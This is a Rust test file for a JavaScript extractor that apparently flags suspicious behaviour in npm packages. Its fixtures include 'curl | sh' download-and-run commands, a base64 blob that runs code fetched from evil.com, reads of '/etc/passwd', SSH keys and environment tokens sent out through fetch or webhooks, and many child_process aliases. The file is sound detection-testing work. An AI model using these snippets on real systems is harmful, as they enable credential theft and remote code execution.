//! The JavaScript extractor: every feature fires on what it should and not on its near misses;
//! names are followed through every alias form; steps come in execution order; package
//! functions are named and reached; hostile input neither panics nor hangs.

use cerebro_features::javascript::{extract, MAX_PARSE_BYTES};
use cerebro_features::{Event, FileFacts, Function, Step};

fn facts(src: &str) -> FileFacts {
    extract("pkg/index.js", src)
}

/// Steps flattened to short tokens: a feature id, `import:SPEC`, `call:FUNCTION` or
/// `call:MODULE:FUNCTION`.
fn ids(steps: &[Step]) -> Vec<String> {
    steps
        .iter()
        .map(|s| match s {
            Step::Event(e) => e.feature.id().to_owned(),
            Step::Import(m) => format!("import:{}", m.spec),
            Step::Call(c) => match &c.module {
                Some(m) => format!("call:{}:{}", m.spec, c.function),
                None => format!("call:{}", c.function),
            },
        })
        .collect()
}

/// The top level's tokens.
fn top(src: &str) -> Vec<String> {
    ids(&facts(src).top_level)
}

/// All events of the file, top level first, then each function's.
fn events(src: &str) -> Vec<Event> {
    let f = facts(src);
    f.top_level
        .iter()
        .chain(f.functions.iter().flat_map(|x| x.steps.iter()))
        .filter_map(|s| match s {
            Step::Event(e) => Some(e.clone()),
            _ => None,
        })
        .collect()
}

/// Feature ids of all events of the file.
fn features(src: &str) -> Vec<String> {
    events(src)
        .iter()
        .map(|e| e.feature.id().to_owned())
        .collect()
}

fn fires(src: &str, id: &str) -> bool {
    features(src).iter().any(|f| f == id)
}

fn assert_fires(id: &str, snippets: &[&str]) {
    for src in snippets {
        assert!(
            fires(src, id),
            "{id} should fire on {src:?}: {:?}",
            features(src)
        );
    }
}

fn assert_silent(id: &str, snippets: &[&str]) {
    for src in snippets {
        assert!(
            !fires(src, id),
            "{id} should not fire on {src:?}: {:?}",
            features(src)
        );
    }
}

fn function<'f>(f: &'f FileFacts, name: &str) -> &'f Function {
    f.functions
        .iter()
        .find(|x| x.name == name)
        .unwrap_or_else(|| panic!("no function {name}: {:?}", names(f)))
}

fn names(f: &FileFacts) -> Vec<&str> {
    f.functions.iter().map(|x| x.name.as_str()).collect()
}

fn detail_of(src: &str, id: &str) -> String {
    events(src)
        .into_iter()
        .find(|e| e.feature.id() == id)
        .map(|e| e.detail)
        .unwrap_or_else(|| panic!("no {id} in {src:?}"))
}

// ----- R: reconnaissance -----

#[test]
fn r1_imports_of_the_os_module() {
    assert_fires(
        "R1",
        &[
            "const os = require('os');",
            "const os = require('node:os');",
            "import os from 'os';",
            "import { hostname } from 'node:os';",
            "const os = await import('os');",
        ],
    );
    assert_silent(
        "R1",
        &[
            "const os = require('./os');",
            "const o = require('osenv-like');",
            "console.log('os');",
            "// require('os')",
        ],
    );
}

#[test]
fn r2_calls_into_the_os_module() {
    assert_fires(
        "R2",
        &[
            "const os = require('os'); os.hostname();",
            "require('os').userInfo().username;",
            "const { homedir: h } = require('node:os'); h();",
            "import * as os from 'os'; os.networkInterfaces();",
            "import { platform } from 'os'; platform();",
        ],
    );
    assert_silent(
        "R2",
        &[
            "const os = require('os'); const eol = os.EOL;",
            "const path = require('path'); path.join('a', 'b');",
            "myOs.hostname();",
            "function f(os) { return os.hostname(); }",
        ],
    );
}

#[test]
fn r3_imports_of_file_system_modules() {
    assert_fires(
        "R3",
        &[
            "const fs = require('fs');",
            "const fsp = require('fs/promises');",
            "import fs from 'node:fs/promises';",
            "const path = require('path');",
            "const fse = require('fs-extra');",
            "const gfs = require('graceful-fs');",
        ],
    );
    assert_silent(
        "R3",
        &[
            "const x = require('fsevents-like');",
            "log('fs is missing');",
            "const fs = require('./fs');",
        ],
    );
}

#[test]
fn r4_calls_into_file_system_modules() {
    assert_fires(
        "R4",
        &[
            "const fs = require('fs'); fs.readFileSync('a');",
            "require('fs').promises.readFile('a');",
            "import { writeFile } from 'fs/promises'; await writeFile('a', 'b');",
            "const { readdirSync: ls } = require('node:fs'); ls('.');",
            "const path = require('path'); path.join(__dirname, 'x');",
            "const fse = require('fs-extra'); fse.copySync('a', 'b');",
        ],
    );
    assert_silent(
        "R4",
        &[
            "reader.readFileSync('a');",
            "const fs = require('fs'); const m = fs.constants.F_OK;",
            "function f(fs) { fs.readFileSync('a'); }",
        ],
    );
}

#[test]
fn r5_reads_of_sensitive_information() {
    assert_fires(
        "R5",
        &[
            "const t = process.env.NPM_TOKEN;",
            "send(process.env);",
            "const e = process['env'];",
            "const { env } = process;",
            "const { env } = require('process'); env.HOME;",
            "Object.keys(process.env).forEach(k => k);",
            "global.process.env.AWS_SECRET_ACCESS_KEY;",
            "const f = '~/.ssh/id_rsa';",
            "const p = os.homedir() + '/.npmrc';",
            "post(JSON.stringify(process));",
        ],
    );
    assert_silent(
        "R5",
        &[
            "if (process.env.NODE_ENV !== 'production') {}",
            "const a = process.argv[2];",
            "myproc.env.HOME;",
            "// process.env.SECRET",
            "const c = '~/.config/app/settings.json';",
            "JSON.stringify(options);",
        ],
    );
}

// ----- D: data exfiltration -----

#[test]
fn d1_imports_of_network_modules() {
    assert_fires(
        "D1",
        &[
            "const https = require('https');",
            "const http = require('node:http');",
            "import axios from 'axios';",
            "const fetch = require('node-fetch');",
            "import WebSocket from 'ws';",
            "const dns = require('dns');",
            "const net = await import('net');",
        ],
    );
    assert_silent(
        "D1",
        &[
            "const e = require('http-errors');",
            "console.log('https');",
            "const h = require('./http');",
        ],
    );
}

#[test]
fn d2_calls_into_network_modules() {
    assert_fires(
        "D2",
        &[
            "const https = require('https'); https.get(u, r => r);",
            "require('http').request(opts);",
            "const net = require('net'); net.connect(4444, host);",
            "const net = require('net'); const s = new net.Socket();",
            "const dns = require('dns'); dns.lookup(name, cb);",
            "const { resolveTxt } = require('dns'); resolveTxt(name, cb);",
            "fetch('https://example.com');",
            "window.fetch(u);",
            "const axios = require('axios'); axios.post(u, data);",
            "import axios from 'axios'; axios(u);",
            "const ws = new WebSocket(u);",
            "const W = require('ws'); new W(u);",
            "const x = new XMLHttpRequest();",
            "navigator.sendBeacon(u, data);",
            "$.ajax({ url: u });",
            "const got = require('got'); got(u);",
            "const request = require('sync-request'); request('GET', u);",
            "const { Client } = require('discord.js'); new Client().login(token);",
        ],
    );
    assert_silent(
        "D2",
        &[
            "client.get(u);",
            "const net = require('net'); net.isIP(a);",
            "function fetch(u) { return u; } fetch(1);",
            "const http = require('http'); const codes = http.STATUS_CODES;",
            "const $ = cheerio.load(html); $.get(0);",
        ],
    );
}

#[test]
fn d2_a_fetch_parameter_still_fetches() {
    // An injected `fetch` (`function f({ fetch })`) is still a network call.
    assert!(fires(
        "function get(fetch, u) { return fetch(u); } get(f, u);",
        "D2"
    ));
}

#[test]
fn d3_urls_and_d4_exfiltration_endpoints() {
    assert_fires(
        "D3",
        &[
            "const u = 'http://203.0.113.9:8080/x';",
            "const u = `https://${host}/api`;",
        ],
    );
    assert_silent(
        "D3",
        &[
            "const u = 'https://';",
            "const v = '1.0.0.2';",
            "// https://example.com",
        ],
    );
    assert_fires(
        "D4",
        &[
            "post('https://discord.com/api/webhooks/1/abc');",
            "const h = 'https://webhook.site/x';",
            "const k = { 'https://api.telegram.org/bot1/sendMessage': 1 };",
        ],
    );
    assert_silent("D4", &["const i = 'https://discord.com/invite/abc';"]);
    // A data table (psl's Public Suffix List holds `ngrok.io` among thousands of domains)
    // names no destination; a short list still does.
    let table = |n: usize| {
        let mut items: Vec<String> = (0..n).map(|i| format!("'d{i}.example'")).collect();
        items.push("'ngrok.io'".into());
        format!("const rules = [{}];", items.join(","))
    };
    assert!(!fires(&table(120), "D4"), "a data table");
    assert!(fires(&table(5), "D4"), "a short list");
    assert!(fires("const u = ['https://webhook.site/x'];", "D4"));
}

// ----- E: encoding -----

#[test]
fn e1_imports_of_encoding_modules() {
    assert_fires(
        "E1",
        &[
            "const crypto = require('crypto');",
            "const zlib = require('node:zlib');",
            "const { Buffer } = require('buffer');",
            "import CryptoJS from 'crypto-js';",
        ],
    );
    assert_silent(
        "E1",
        &["const c = 'crypto';", "const c = require('./crypto');"],
    );
}

#[test]
fn e2_encoding_calls() {
    assert_fires(
        "E2",
        &[
            "const s = Buffer.from(x, 'base64').toString();",
            "const b = new Buffer(x, 'hex');",
            "const s = data.toString('base64');",
            "const s = atob(x);",
            "const s = btoa(x);",
            "const s = String.fromCharCode(104, 105);",
            "const s = String.fromCharCode.apply(null, codes);",
            "const c = require('crypto'); c.createDecipheriv(a, k, iv);",
            "const { inflateSync } = require('zlib'); inflateSync(b);",
            "const s = unescape(x);",
            "const { Buffer: B } = require('buffer'); B.from(x, 'base64');",
            "const enc = 'base64'; Buffer.from(x, enc);",
        ],
    );
    assert_silent(
        "E2",
        &[
            "const b = Buffer.from(x);",
            "const s = b.toString('utf8');",
            "const c = require('crypto'); c.createHash('sha256').update(x).digest('hex');",
            "const s = decodeURIComponent(x);",
            "const n = parseInt(x, 16);",
        ],
    );
}

#[test]
fn e3_base64_strings_and_e4_long_strings() {
    let blob = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cDovL2V2aWwuY29tIHwgc2gnKQ==";
    assert_fires("E3", &[&format!("const b = '{blob}';")]);
    assert_silent(
        "E3",
        &[
            "const s = 'aGVsbG8=';",
            "const h = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08';",
        ],
    );
    let long = "x".repeat(2000);
    assert_fires(
        "E4",
        &[
            &format!("const s = '{long}';"),
            &format!("const s = `{long}`;"),
        ],
    );
    assert_silent("E4", &["const s = 'short';", &format!("// {long}")]);
}

#[test]
fn e4_for_a_file_too_large_to_parse() {
    let src = format!("const a = 1;\n{}", "a;\n".repeat(MAX_PARSE_BYTES / 3 + 10));
    assert!(src.len() > MAX_PARSE_BYTES);
    let f = facts(&src);
    assert_eq!(ids(&f.top_level), ["E4"]);
    assert!(f.functions.is_empty());
    let Step::Event(e) = &f.top_level[0] else {
        unreachable!()
    };
    assert_eq!(e.line, 1);
    assert_eq!(
        e.detail,
        format!("file too large to parse ({} bytes)", src.len())
    );
}

// ----- P: payload execution -----

#[test]
fn p1_imports_of_process_modules() {
    assert_fires(
        "P1",
        &[
            "const cp = require('child_process');",
            "const cp = require('node:child_process');",
            "import { spawn } from 'child_process';",
            "const execa = require('execa');",
            "const sh = require('shelljs');",
            "const { exec } = await import('node:child_process');",
        ],
    );
    assert_silent(
        "P1",
        &[
            "throw new Error('child_process is not available');",
            "const cp = require('./child_process');",
        ],
    );
}

#[test]
fn p2_process_calls() {
    assert_fires(
        "P2",
        &[
            "const cp = require('child_process'); cp.exec('id');",
            "require('child_process').execSync('id');",
            "const { exec, spawn: sp } = require('child_process'); sp('ls');",
            "import { execFile as run } from 'node:child_process'; run('a');",
            "const cp = require('child_process'); const e = cp.exec; e('x');",
            "const cp = require('child_process'); cp.fork('w.js');",
            "process.binding('spawn_sync').spawn(o);",
            "const execa = require('execa'); execa('ls');",
            "const sh = require('shelljs'); sh.exec('ls');",
            "const cp = require('child_process'); cp.exec.call(null, 'id');",
            "const cmd = require('node-cmd'); cmd.runSync('id');",
        ],
    );
    assert_silent(
        "P2",
        &[
            "const m = /x(\\d)/.exec(s);",
            "obj.exec('select 1');",
            "db.spawn();",
            "const re = new RegExp('a'); re.exec(s);",
            "const cp = require('child_process'); function f(cp) { cp.exec('x'); }",
            "const b = process.binding('buffer');",
        ],
    );
}

#[test]
fn p3_shell_options_and_commands() {
    assert_fires(
        "P3",
        &[
            "spawn(cmd, args, { shell: true });",
            "spawn(cmd, args, { shell: '/bin/sh' });",
            "exec('curl -s http://example.com/a.sh | sh');",
            "const c = `powershell -enc ${payload}`;",
        ],
    );
    assert_silent(
        "P3",
        &[
            "spawn(cmd, args, { shell: false });",
            "run('make install');",
            "const o = { shell };",
        ],
    );
}

#[test]
fn p4_code_evaluated_at_run_time() {
    assert_fires(
        "P4",
        &[
            "eval(code);",
            "(0, eval)(code);",
            "window.eval(code);",
            "globalThis.eval(code);",
            "globalThis['ev' + 'al'](code);",
            "const e = eval; e(code);",
            "new Function('a', 'return a')(1);",
            "Function(code)();",
            "const vm = require('vm'); vm.runInNewContext(code);",
            "const vm = require('node:vm'); new vm.Script(code).runInThisContext();",
            "const { runInThisContext } = require('vm'); runInThisContext(code);",
            "setTimeout('alert(1)', 10);",
            "setInterval(\"tick()\" + n, 10);",
            "const m = require(name);",
            "const m = await import(url);",
            "[].constructor.constructor(code)();",
            "const { Worker } = require('worker_threads'); new Worker(code, { eval: true });",
            "m._compile(source, file);",
            "const s = require('node-serialize'); s.unserialize(payload);",
        ],
    );
    assert_silent(
        "P4",
        &[
            "JSON.parse(s);",
            "model.eval();",
            "setTimeout(fn, 10);",
            "setTimeout(() => go(), 10);",
            "const g = Function('return this')();",
            "const m = require('lodash');",
            "const m = require('lo' + 'dash');",
            "const n = 'lodash'; const m = require(n);",
            "// eval(code)",
            "const s = require('node-serialize'); s.serialize(obj);",
        ],
    );
    assert_eq!(detail_of("require(x);", "P4"), "require of a computed name");
}

// ----- O1: obfuscation -----

#[test]
fn o1_obfuscation() {
    assert_fires(
        "O1",
        &[
            "var _0x1a2b = ['a']; function _0x3c4d(_0x5e6f) { return _0x1a2b[_0x5e6f]; }",
            "var s = '\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73\\x65\\x73\\x21';",
            "var a = (![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]+(![]+[])[+!+[]];",
            "eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'a|b'.split('|'),0,{}));",
        ],
    );
    assert_silent(
        "O1",
        &[
            "var _0x1a2b = 1, _0x3c4d = 2;",
            "var s = '\\x41\\x42 and \\n\\t';",
            "var s = '\\u4e2d\\u6587\\u4e2d\\u6587\\u4e2d\\u6587\\u4e2d\\u6587\\u4e2d\\u6587\\u4e2d\\u6587\\u4e2d\\u6587\\u4e2d\\u6587';",
            "var t = !0, f = !1;",
            "eval(function(a){return a}('x'));",
        ],
    );
}

#[test]
fn o1_constants_in_octal_arithmetic_and_string_tables() {
    // js-confuser style: every constant an octal/hex expression, dozens per file.
    let soup = |n: usize| {
        let cases: String = (0..n)
            .map(|i| format!("case (0o{:o}%0x1F): s = (0o{:o}-7); break;", i + 64, i + 9))
            .collect();
        format!("var s = 0; while (s < 9) switch (s) {{ {cases} }}")
    };
    // A skimmer's text built from a shuffled string table.
    let table = |n: usize| {
        let parts: Vec<String> = (0..n).map(|i| format!("_OH[{}]", (i * 7) % 40)).collect();
        format!("var x = {};", parts.join(" + "))
    };
    assert_fires("O1", &[&soup(16), &table(8)]);
    assert_eq!(
        detail_of(&table(8), "O1"),
        "text assembled from a string table"
    );
    assert_eq!(
        detail_of(&soup(16), "O1"),
        "constants hidden in octal arithmetic"
    );
    assert_silent(
        "O1",
        &[
            // A few file modes, a short run, runs broken by other names or by member access.
            &soup(15),
            &table(7),
            "fs.chmodSync(p, 0o755); fs.mkdirSync(d, { mode: 0o700 });",
            "var k = a[0] + b[1] + a[2] + b[3] + a[4] + b[5] + a[6] + b[7] + a[8];",
            "var k = o.t[0] + o.t[1] + o.t[2] + o.t[3] + o.t[4] + o.t[5] + o.t[6] + o.t[7];",
            "var k = t[0] - t[1] - t[2] - t[3] - t[4] - t[5] - t[6] - t[7] - t[8];",
        ],
    );
}

#[test]
fn o1_is_reported_once_per_kind() {
    let src = "var _0xaaaa, _0xbbbb, _0xcccc, _0xdddd;\n_0xaaaa(); _0xbbbb(); _0xcccc();";
    let o1: Vec<Event> = events(src)
        .into_iter()
        .filter(|e| e.feature.id() == "O1")
        .collect();
    assert_eq!(o1.len(), 1);
    assert_eq!(o1[0].line, 1);
}

#[test]
fn strings_inside_the_decoded_literal_are_judged() {
    // Escapes are decoded before classification and before reading a module name.
    let src =
        "const cp = require('\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73');";
    assert!(fires(src, "P1"));
    assert!(fires(
        "const s = '\\x2f\\x65\\x74\\x63\\x2f\\x70\\x61\\x73\\x73\\x77\\x64';",
        "R5"
    ));
}

// ----- aliases -----

#[test]
fn aliases_reach_child_process() {
    let forms = [
        "const cp = require('child_process'); cp.exec('x');",
        "var cp; cp = require('child_process'); cp.exec('x');",
        "const { exec: run } = require('child_process'); run('x');",
        "const { exec } = require('node:child_process'); exec('x');",
        "import cp from 'child_process'; cp.exec('x');",
        "import * as cp from 'child_process'; cp.exec('x');",
        "import { exec as x } from 'child_process'; x('x');",
        "import { default as cp } from 'child_process'; cp.exec('x');",
        "const cp = await import('child_process'); cp.exec('x');",
        "const { exec } = await import('child_process'); exec('x');",
        "import('child_process').then(m => m);  require('child_process').exec('x');",
        "const r = process.mainModule.require; r('child_process').exec('x');",
        "process.mainModule.require('child_process').exec('x');",
        "module.require('child_process').exec('x');",
        "require.main.require('child_process').exec('x');",
        "const cp = require('child_process'); const e = cp.exec; e('x');",
        "const cp = require('child_process'); const e = cp.exec.bind(cp); e('x');",
        "const { promisify } = require('util'); const cp = require('child_process'); const e = promisify(cp.exec); e('x');",
        "const e = require('util').promisify(require('child_process').exec); e('x');",
        "const m = 'child_process'; require(m).exec('x');",
        "require('child_' + 'process').exec('x');",
        "const { createRequire } = require('module'); const req = createRequire(__filename); req('child_process').exec('x');",
        "const cp = require('child_process'); cp['exec']('x');",
        "const cp = require('child_process'); cp[method]('x');",
        "const cp = global.require('child_process'); cp.exec('x');",
        "eval('require')('child_process').exec('x');",
    ];
    for src in forms {
        let f = features(src);
        assert!(f.contains(&"P2".to_owned()), "P2 on {src:?}: {f:?}");
        assert!(f.contains(&"P1".to_owned()), "P1 on {src:?}: {f:?}");
    }
}

#[test]
fn compiler_interop_output() {
    // TypeScript, Babel and esbuild wrap imports and call named imports as `(0, m.f)(…)`.
    let src = "const child_process_1 = require(\"child_process\");\n\
               const axios_1 = __importDefault(require(\"axios\"));\n\
               (0, child_process_1.execSync)(cmd);\n\
               axios_1.default.post(u, d);";
    assert_eq!(top(src), ["P1", "D1", "P2", "D2"]);
    let src = "var _fs = _interopRequireDefault(require(\"fs\"));\n\
               function _interopRequireDefault(o) { return o && o.__esModule ? o : { default: o }; }\n\
               _fs.default.readFileSync(p);";
    assert!(fires(src, "R4"));
    assert!(fires(
        "var import_net = __toESM(require(\"net\")); import_net.default.connect(1);",
        "D2"
    ));
    assert!(fires(
        "const os = tslib.__importStar(require('os')); os.userInfo();",
        "R2"
    ));
}

#[test]
fn aliases_of_globals() {
    assert!(fires("const p = global.process; p.env.X;", "R5"));
    assert!(fires("const g = globalThis; g.eval(c);", "P4"));
    assert!(fires("self.fetch(u);", "D2"));
    assert!(fires("const B = Buffer; B.from(s, 'base64');", "E2"));
    assert!(fires(
        "const { setTimeout: later } = require('timers'); later('code()', 1);",
        "P4"
    ));
    assert_eq!(detail_of("window.eval(c);", "P4"), "eval");
    assert_eq!(
        detail_of("const { exec: x } = require('child_process'); x(c);", "P2"),
        "child_process.exec"
    );
    assert_eq!(detail_of("require('https');", "D1"), "require('https')");
    assert_eq!(detail_of("import 'https';", "D1"), "import 'https'");
    assert_eq!(detail_of("import('https');", "D1"), "import('https')");
}

#[test]
fn scopes_hide_outer_names() {
    // A local of the same name hides an outer module binding…
    assert!(!fires(
        "const cp = require('child_process'); function f() { const cp = db(); cp.exec(); }",
        "P2"
    ));
    // …but not an outer one seen from an inner function.
    assert!(fires(
        "function f() { const cp = require('child_process'); return () => cp.exec('x'); }",
        "P2"
    ));
    // A name declared later in a function is seen by a nested function declared before it.
    assert!(fires(
        "(function () { function run() { cp.exec('x'); } var cp = require('child_process'); run(); })();",
        "P2"
    ));
    // Minified code reuses short names: a binding does not leak into a sibling function.
    assert!(!fires(
        "function a(b) { var c = eval; } function d(c) { return c(1); }",
        "P4"
    ));
    // The last value written wins.
    assert!(!fires(
        "let x = require('child_process'); x = other; x.exec('a');",
        "P2"
    ));
}

// ----- order -----

#[test]
fn arguments_come_before_the_call() {
    assert_eq!(
        top("eval(Buffer.from(s, 'base64').toString());"),
        ["E2", "P4"]
    );
    assert_eq!(
        top("require('child_process').exec('curl http://a.io/x | sh');"),
        ["P1", "D3", "P3", "P2"]
    );
}

#[test]
fn statements_in_source_order() {
    let src = "const os = require('os');\nconst h = os.hostname();\nconst https = require('https');\nhttps.request(o);";
    assert_eq!(top(src), ["R1", "R2", "D1", "D2"]);
}

#[test]
fn callbacks_run_after_the_call_that_takes_them() {
    let src = "const fs = require('fs');\nfs.readFile('/etc/passwd', (err, data) => {\n  fetch('https://example.com/', { body: data });\n});";
    assert_eq!(top(src), ["R3", "R5", "R4", "D3", "D2"]);
    // An immediately invoked function runs inline, after its arguments.
    assert_eq!(top("(function (u) { eval(u); })(atob(s));"), ["E2", "P4"]);
    assert_eq!(top("!function () { eval(s); }();"), ["P4"]);
    assert_eq!(top("(async () => { await fetch(u); })();"), ["D2"]);
}

#[test]
fn a_member_chain_fires_once() {
    assert_eq!(top("const h = process.env.HOME.trim();"), ["R5"]);
    assert_eq!(top("const h = (process.env).HOME;"), ["R5"]);
    assert_eq!(top("const { env: { HOME } } = process;"), ["R5"]);
    assert_eq!(top("const h = require('os').homedir();"), ["R1", "R2"]);
}

#[test]
fn events_carry_line_and_excerpt() {
    let e = events("\n\nconst cp = require('child_process');\ncp.exec('id');");
    assert_eq!(e[0].line, 3);
    assert_eq!(e[1].line, 4);
    assert_eq!(e[1].excerpt, "cp.exec('id')");
    assert_eq!(e[0].file, "pkg/index.js");
}

// ----- steps that reach package code -----

#[test]
fn calls_to_functions_of_this_file() {
    let f = facts(
        "function helper() { eval(x); }\n\
         const util = () => 1;\n\
         helper(); util(); console.log(1); JSON.parse(s);\n\
         setTimeout(helper, 10);",
    );
    assert_eq!(
        ids(&f.top_level),
        ["call:helper", "call:util", "call:helper"]
    );
    assert_eq!(ids(&function(&f, "helper").steps), ["P4"]);
}

#[test]
fn methods_through_this_and_new() {
    let f = facts(
        "class Installer {\n\
           constructor() { this.run(); }\n\
           run() { Installer.log(); }\n\
           static log() {}\n\
         }\n\
         new Installer();",
    );
    assert_eq!(ids(&f.top_level), ["call:Installer.constructor"]);
    assert_eq!(
        ids(&function(&f, "Installer.constructor").steps),
        ["call:Installer.run"]
    );
    assert_eq!(
        ids(&function(&f, "Installer.run").steps),
        ["call:Installer.log"]
    );
}

#[test]
fn old_style_constructors_and_prototype_methods() {
    let f = facts(
        "function Client() { this.x = 1; }\n\
         Client.prototype.send = function () { this.open(); };\n\
         Client.prototype.open = function () { require('net').connect(1); };\n\
         new Client();",
    );
    assert_eq!(ids(&f.top_level), ["call:Client"]);
    assert_eq!(
        ids(&function(&f, "Client.send").steps),
        ["call:Client.open"]
    );
    assert_eq!(ids(&function(&f, "Client.open").steps), ["D1", "D2"]);
}

#[test]
fn relative_requires_and_imports() {
    assert_eq!(
        top("const u = require('./utils'); u.helper();"),
        ["import:./utils", "call:./utils:helper"]
    );
    assert_eq!(
        top("const { helper } = require('./utils'); helper();"),
        ["import:./utils", "call:./utils:helper"]
    );
    assert_eq!(
        top("const run = require('./run'); run();"),
        ["import:./run", "call:./run:default"]
    );
    assert_eq!(
        top("import x from './x.js'; x();"),
        ["import:./x.js", "call:./x.js:default"]
    );
    assert_eq!(
        top("import { a as b } from '../m'; b();"),
        ["import:../m", "call:../m:a"]
    );
    assert_eq!(
        top("import * as ns from './ns'; ns.go();"),
        ["import:./ns", "call:./ns:go"]
    );
    assert_eq!(top("require('./x').go();"), ["import:./x", "call:./x:go"]);
    assert_eq!(
        top("import Foo from './foo'; new Foo();"),
        ["import:./foo", "call:./foo:default.constructor"]
    );
    assert_eq!(
        top("const { Foo } = require('./foo'); new Foo();"),
        ["import:./foo", "call:./foo:Foo.constructor"]
    );
    assert_eq!(top("import './side-effect';"), ["import:./side-effect"]);
    assert_eq!(top("export * from './all';"), ["import:./all"]);
    assert_eq!(
        top("const m = await import('./lazy.mjs'); m.go();"),
        ["import:./lazy.mjs", "call:./lazy.mjs:go"]
    );
    assert_eq!(top("require('/abs/path');"), ["import:/abs/path"]);
    // Packages are not package code: no import step and no call.
    assert_eq!(
        top("const l = require('lodash'); l.map(a, f);"),
        Vec::<String>::new()
    );
}

#[test]
fn no_calls_for_globals_or_mapped_apis() {
    assert_eq!(
        top("console.log(1); Math.max(1, 2); [1].map(String);"),
        Vec::<String>::new()
    );
    assert_eq!(
        top("const { exec } = require('child_process'); exec('x');"),
        ["P1", "P2"]
    );
}

// ----- function names -----

#[test]
fn function_naming_forms() {
    let f = facts(
        "function f() {}\n\
         const g = function () {};\n\
         let h = () => {};\n\
         var gen = function* () {};\n\
         class C { constructor() {} m() {} static s() {} get p() { return 1; } handler = () => {}; }\n\
         exports.e1 = function () {};\n\
         module.exports.e2 = () => {};\n\
         const D = class { run() {} };\n\
         Legacy.prototype.go = function () {};",
    );
    for name in [
        "f",
        "g",
        "h",
        "gen",
        "C.constructor",
        "C.m",
        "C.s",
        "C.p",
        "C.handler",
        "e1",
        "e2",
        "D.run",
        "Legacy.go",
    ] {
        function(&f, name);
    }
    assert_eq!(function(&f, "f").line, 1);
    assert_eq!(function(&f, "C.m").line, 5);
}

#[test]
fn default_and_object_exports() {
    let f = facts("module.exports = function () { eval(x); };");
    assert_eq!(names(&f), ["default"]);
    assert_eq!(ids(&function(&f, "default").steps), ["P4"]);

    let f = facts("export default function () {}");
    assert_eq!(names(&f), ["default"]);
    let f = facts("export default function main() {}\nmain();");
    assert_eq!(names(&f), ["default"]);
    assert_eq!(ids(&f.top_level), ["call:default"]);
    let f = facts("export default () => 1;");
    assert_eq!(names(&f), ["default"]);

    let f =
        facts("module.exports = { m() { this.n(); }, n: function () {}, 'k': () => {}, v: 5 };");
    assert_eq!(names(&f), ["m", "n", "k"]);
    assert_eq!(ids(&function(&f, "m").steps), ["call:n"]);

    let f =
        facts("export function f() {}\nexport const g = () => {};\nexport class K { run() {} }");
    assert_eq!(names(&f), ["f", "g", "K.run"]);
}

#[test]
fn exported_local_names_forward_to_their_function() {
    let f = facts("function main() {}\nmodule.exports = main;");
    assert_eq!(ids(&function(&f, "default").steps), ["call:main"]);
    let f = facts("function run() {}\nmodule.exports = { start: run, run };");
    assert_eq!(ids(&function(&f, "start").steps), ["call:run"]);
    assert_eq!(names(&f), ["run", "start"]);
    let f = facts("function a() {}\nexport { a as b };");
    assert_eq!(ids(&function(&f, "b").steps), ["call:a"]);
    let f = facts("export { helper } from './utils';");
    assert_eq!(ids(&function(&f, "helper").steps), ["call:./utils:helper"]);
    let f = facts("module.exports = require('./lib/index');");
    assert_eq!(ids(&f.top_level), ["import:./lib/index"]);
    assert_eq!(
        ids(&function(&f, "default").steps),
        ["call:./lib/index:default"]
    );
    let f = facts("class Foo { constructor() {} }\nmodule.exports = Foo;");
    assert_eq!(
        ids(&function(&f, "default.constructor").steps),
        ["call:Foo.constructor"]
    );
    let f = facts("exports.one = function () { exports.two(); };\nexports.two = function () {};");
    assert_eq!(ids(&function(&f, "one").steps), ["call:two"]);
}

#[test]
fn nested_and_anonymous_functions_are_walked_inline() {
    let f = facts("(function () {\n  function inner() { eval(x); }\n  inner();\n})();");
    assert!(f.functions.is_empty());
    assert_eq!(ids(&f.top_level), ["P4"]);
    let f = facts("function outer() { function inner() { eval(x); } }");
    assert_eq!(names(&f), ["outer"]);
    assert_eq!(ids(&function(&f, "outer").steps), ["P4"]);
}

// ----- file kinds and hostile input -----

#[test]
fn module_file_kinds_and_shebang() {
    let src = "#!/usr/bin/env node\nconst cp = require('child_process');\ncp.exec('x');";
    for path in ["bin/cli.js", "lib/x.mjs", "lib/x.cjs"] {
        let f = extract(path, src);
        assert_eq!(ids(&f.top_level), ["P1", "P2"], "{path}");
        assert_eq!(f.path, path);
    }
}

#[test]
fn jsx_and_syntax_errors_are_read_around() {
    assert!(fires("const a = <div>{fetch(u)}</div>;", "D2"));
    assert!(fires("const x = {;\neval(code);", "P4"));
}

#[test]
fn hostile_nesting_does_not_overflow() {
    let depth = 100_000;
    for src in [
        format!("{}{}", "[".repeat(depth), "]".repeat(depth)),
        format!("x = {}1{};", "(".repeat(depth), ")".repeat(depth)),
        "{".repeat(depth),
        format!("a{}();", ".b".repeat(depth)),
        format!("f({}", "g(".repeat(depth / 2)),
        format!("x = {}1{};", "{a:".repeat(depth / 2), "}".repeat(depth / 2)),
        format!(
            "{}eval(x){}",
            "function f(){".repeat(depth / 10),
            "}".repeat(depth / 10)
        ),
        format!("{}1", "x=>".repeat(depth / 2)),
        format!("require({});", vec!["'a'"; depth / 4].join("+")),
        format!("x = {}b{};", "a?".repeat(depth / 4), ":c".repeat(depth / 4)),
    ] {
        let _ = facts(&src);
    }
    // Deeply nested functions, each with parameters and lookups, stay linear enough.
    let src = "function f(a, b) { var c = d(a); c.e(); ".repeat(5000) + &"}".repeat(5000);
    let _ = facts(&src);
    // Deep functions still report what they do.
    let src = format!(
        "{}eval(x){}",
        "(function(){".repeat(2000),
        "})()".repeat(2000)
    );
    assert!(fires(&src, "P4"));
}

#[test]
fn hostile_bytes_and_sizes_do_not_panic() {
    assert!(facts("").top_level.is_empty());
    assert!(facts("   \n\n").top_level.is_empty());
    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
    let bytes: Vec<u8> = (0..200_000)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x as u8
        })
        .collect();
    let garbage = String::from_utf8_lossy(&bytes);
    let f = facts(&garbage);
    assert!(ids(&f.top_level).iter().all(|i| i == "E4"));
    let punctuation: String = (0..100_000)
        .map(|i| b"(){}[];,.+-*/'\"`$=<>!?:ab1\n \\"[(i * 7919 + i / 3) % 29] as char)
        .collect();
    let _ = facts(&punctuation);
    let _ = facts("\u{feff}'\u{0}\u{1}\\");
